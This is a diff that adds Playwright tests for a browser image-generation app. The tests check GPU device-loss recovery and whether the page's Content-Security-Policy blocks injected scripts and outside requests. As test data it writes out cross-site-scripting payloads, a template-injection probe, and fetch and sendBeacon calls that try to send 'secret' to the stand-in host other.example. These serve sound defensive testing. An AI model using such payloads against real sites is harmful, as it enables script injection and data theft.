@@ -1,0 +1,188 @@
+import { expect, type Page, test } from 'playwright/test';
+
+import { openStudio, paintLayout, resultPixels, setSeed } from './support/page.ts';
+
+const TINY = 'models/tiny/';
+const TINY_LABELS: [string, string] = ['label 1', 'label 7'];
+
+const status = (page: Page) => page.getByRole('status', { name: 'Status' });
+const diagnostics = (page: Page) => page.evaluate(() => window.tessera!.diagnostics());
+const start = (page: Page) => page.getByRole('button', { name: 'Generate', exact: true }).click();
+
+/** Waits for the end of the run and gives its picture. */
+async function finished(page: Page): Promise<string> {
+  await expect(page.getByRole('progressbar', { name: 'Generating' })).toBeHidden({ timeout: 300_000 });
+  await expect(status(page)).toContainText('Finished');
+  return resultPixels(page);
+}
+
+/** Waits until a share of the run is drawn, takes the device away, and waits until the page says that it is back. */
+async function loseInRun(page: Page, nth: number, percent: number): Promise<void> {
+  const bar = page.getByRole('progressbar', { name: 'Generating' });
+  await expect
+    .poll(async () => Number(await bar.getAttribute('aria-valuenow')), { timeout: 120_000, intervals: [50] })
+    .toBeGreaterThanOrEqual(percent);
+  await page.evaluate(() => window.tessera!.loseDevice());
+  await expect(page.getByText('The graphics device was lost and is back.')).toBeVisible({ timeout: 180_000 });
+  expect((await diagnostics(page)).deviceLosses).toBe(nth);
+  await page.getByRole('button', { name: 'Dismiss' }).click();
+}
+
+test('a lost device, twice in one run: the same picture as if nothing had happened; then WASM', async ({
+  page,
+}) => {
+  test.setTimeout(600_000); // the software adapter compiles every kernel on the processor, anew on each device
+  await openStudio(page, { backend: 'webgpu', model: TINY });
+  await paintLayout(page, TINY_LABELS);
+  await setSeed(page, 5);
+  await start(page);
+  const undisturbed = await finished(page);
+  const before = await diagnostics(page);
+  expect(before).toMatchObject({ backend: 'webgpu', deviceLosses: 0, generation: 1, errors: [] });
+
+  await setSeed(page, 5);
+  await start(page);
+  await loseInRun(page, 1, 10);
+  await loseInRun(page, 2, 40);
+  expect(await finished(page)).toBe(undisturbed);
+  // Nothing of the lost devices is left behind.
+  expect(await diagnostics(page)).toMatchObject({
+    backend: 'webgpu',
+    generation: 3,
+    tensors: before.tensors,
+    bytes: before.bytes,
+  });
+  await expect(page.getByRole('alert')).toHaveCount(0);
+
+  await page.evaluate(() => window.tessera!.loseDevice());
+  await expect(page.getByText('WASM has taken over')).toBeVisible({ timeout: 60_000 });
+  await expect(status(page)).toContainText('WASM');
+  await setSeed(page, 5);
+  await start(page);
+  await finished(page);
+  await expect(page.getByRole('alert')).toHaveCount(0);
+});
+
+test.describe('the page’s policy', () => {
+  /** What the browser refused, by directive. */
+  const violations = (page: Page) => page.evaluate(() => (window as { refused?: string[] }).refused ?? []);
+
+  test.beforeEach(async ({ page }) => {
+    await page.addInitScript(() => {
+      const refused: string[] = [];
+      Object.assign(window, { refused });
+      addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
+    });
+  });
+
+  test('is sent, lets a picture be drawn on WASM, and is broken by nothing that the page does', async ({
+    page,
+  }) => {
+    const policies = new Map<string, string>();
+    page.on('response', (response) => {
+      const name = /(worker)-[\w-]+\.js$/.exec(response.url())?.[1] ?? new URL(response.url()).pathname;
+      policies.set(name, response.headers()['content-security-policy'] ?? '');
+    });
+    const complaints: string[] = [];
+    page.on('console', (message) => {
+      if (/Content Security Policy|Trusted/i.test(message.text())) complaints.push(message.text());
+    });
+    await openStudio(page, { backend: 'wasm', model: TINY });
+    await paintLayout(page, TINY_LABELS);
+    await start(page);
+    await finished(page);
+    for (const name of ['codebook', 'library', 'learn', 'diagnostics']) {
+      await page.goto(`./?backend=wasm&model=${TINY}#/${name}`);
+      await expect(page.getByRole('main').getByRole('heading').first()).toBeVisible();
+    }
+    expect(policies.get('/')).toContain("script-src 'self';");
+    expect(policies.get('/')).toContain("connect-src 'self' data: blob:;");
+    expect(policies.get('worker')).toContain("'wasm-unsafe-eval'");
+    expect([...policies.values()].join()).not.toContain("'unsafe-");
+    expect(complaints).toEqual([]);
+    expect(await violations(page)).toEqual([]);
+  });
+
+  test('runs no injected script, asks no other host, starts no foreign worker', async ({ page }) => {
+    const asked: string[] = [];
+    await page.route('https://other.example/**', (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ body: 'window.injected = true', contentType: 'text/javascript' });
+    });
+    await page.goto('./');
+    const outcome = await page.evaluate(async () => {
+      const tried = async (work: () => unknown) => {
+        try {
+          await work();
+          return 'done';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      const script = (fill: (element: HTMLScriptElement) => void) => {
+        const element = document.createElement('script');
+        fill(element);
+        document.head.append(element);
+      };
+      return {
+        text: await tried(() => script((element) => (element.textContent = 'window.injected = true'))),
+        source: await tried(() => script((element) => (element.src = 'https://other.example/a.js'))),
+        markup: await tried(() => (document.body.innerHTML = '<img src=x onerror="window.injected = true">')),
+        parsed: await tried(() =>
+          document.body.insertAdjacentHTML('beforeend', '<script>injected = 1</script>'),
+        ),
+        worker: await tried(() => new Worker('https://other.example/w.js')),
+        data: await tried(() => new Worker('data:text/javascript,fetch("https://other.example/")')),
+        fetched: await tried(() => fetch('https://other.example/secret')),
+        beacon: navigator.sendBeacon('https://other.example/beacon', 'secret'),
+      };
+    });
+    expect(outcome).toMatchObject({
+      text: 'TypeError',
+      source: 'TypeError',
+      markup: 'TypeError',
+      parsed: 'TypeError',
+      worker: 'TypeError',
+      data: 'TypeError',
+      fetched: 'TypeError',
+    });
+    // These are no script yet, so they are refused only when they would load or run.
+    await page.evaluate(() => {
+      const image = new Image();
+      image.src = 'https://other.example/pixel.png';
+      const frame = document.createElement('iframe');
+      frame.src = 'https://other.example/frame.html';
+      const style = document.createElement('style');
+      style.textContent =
+        '@import "https://other.example/a.css"; body { background: url(https://other.example/b.png) }';
+      document.body.append(image, frame, style);
+    });
+    await expect.poll(() => violations(page)).toEqual(expect.arrayContaining(['img-src', 'style-src-elem']));
+    expect(asked).toEqual([]);
+    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+  });
+
+  test('shows markup in the name of a model as the text that it is', async ({ page }) => {
+    const name = '<img src=x onerror="window.injected=true">{{7*7}}';
+    await page.route('**/models/index.json', (route) =>
+      route.fulfill({ json: { models: [{ id: 'x', name, url: 'models/x/', description: name }] } }),
+    );
+    await page.goto('./#/library');
+    await expect(page.getByRole('heading', { name, exact: true })).toBeVisible();
+    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+  });
+
+  test('asks before a link’s model is got from another host', async ({ page }) => {
+    const asked: string[] = [];
+    await page.route('https://weights.example/**', (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    await page.goto('./?backend=wasm&model=https://weights.example/landscapes/');
+    await expect(page.getByRole('alert')).toContainText('weights.example, which is not this site');
+    await expect(page.getByRole('button', { name: 'Generate', exact: true })).toBeEnabled();
+    expect(asked).toEqual([]);
+    await page.getByRole('button', { name: 'Fetch from weights.example' }).click();
+    await expect.poll(() => asked[0]).toBe('https://weights.example/landscapes/model.json');
+  });
+});
